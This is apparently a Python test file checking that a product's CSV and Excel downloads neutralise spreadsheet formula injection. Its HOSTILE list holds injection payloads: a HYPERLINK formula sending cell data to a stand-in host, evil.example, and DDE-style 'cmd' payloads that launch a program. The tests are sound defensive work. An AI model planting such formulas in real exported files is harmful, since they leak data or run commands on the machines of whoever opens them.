"""Hostile text in downloads: every CSV the product writes neutralises cells a spreadsheet
would run as a formula (OWASP CSV injection); Excel downloads keep them as strings."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import polars as pl
import pytest

import ui
from analytics.core.output import render, safe_csv_frame, safe_csv_text

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
           "-2+3", "\t=1+1", "\r=1+1", " =1+1", "\uff1d1+1", "\tplain after a tab"]
HARMLESS = ["Organic chemistry", "a=b", "E = mc2: a biography", "2+2", "", "Le-Guin, Ursula"]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_texts_get_an_apostrophe(text):
    assert safe_csv_text(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_ordinary_texts_are_unchanged(text):
    assert safe_csv_text(text) == text


def test_frame_rule_matches_the_text_rule_and_leaves_numbers():
    frame = pl.DataFrame({"title": HOSTILE + HARMLESS + [None], "loans": list(range(-5, len(HOSTILE + HARMLESS) - 4))})
    safe = safe_csv_frame(frame)
    assert safe["title"].to_list() == [safe_csv_text(t) for t in HOSTILE + HARMLESS] + [None]
    assert safe["loans"].to_list() == frame["loans"].to_list()  # -5 stays the number -5


def _cells(data: bytes | str) -> list[list[str]]:
    text = data.decode("utf-8") if isinstance(data, bytes) else data
    return list(csv.reader(io.StringIO(text)))


def test_page_downloads_neutralise_titles_and_isbn_lists():
    frame = pl.DataFrame({"title": HOSTILE, "isbns": [["=1+1", "9780000000002"]] * len(HOSTILE),
                          "loans": [-1] * len(HOSTILE)})
    rows = _cells(ui.csv_bytes(frame))
    assert rows[0] == ["Title", "ISBNs", "Loans"]  # the page's headers
    for row, text in zip(rows[1:], HOSTILE):
        assert row[0] == "'" + text
        assert row[1] == "'=1+1; 9780000000002"
        assert row[2] == "-1"


def test_cli_csv_neutralises_text_but_not_numbers():
    out = render([{"title": "=HYPERLINK(\"http://x\")", "authors": ["@evil", "b"], "loans": -3, "share": -0.5}], "csv")
    assert _cells(out) == [["title", "authors", "loans", "share"], ["'=HYPERLINK(\"http://x\")", "'@evil; b", "-3", "-0.5"]]


def test_excel_download_keeps_hostile_text_as_strings():
    data = ui.excel_bytes(pl.DataFrame({"title": HOSTILE}))
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
        strings = book.read("xl/sharedStrings.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet  # no formula cell
    assert "=HYPERLINK(" in strings  # the title itself, as text


def test_no_page_writes_csv_around_the_rule():
    """Every page download goes through ui.csv_bytes; a direct write_csv would skip the rule."""
    root = Path(__file__).resolve().parents[2]
    offenders = [str(p.relative_to(root)) for p in [root / "app.py", *sorted((root / "pages").glob("*.py"))]
                 if re.search(r"\.write_csv\(|\bto_csv\(|csv\.writer", p.read_text())]
    assert offenders == []
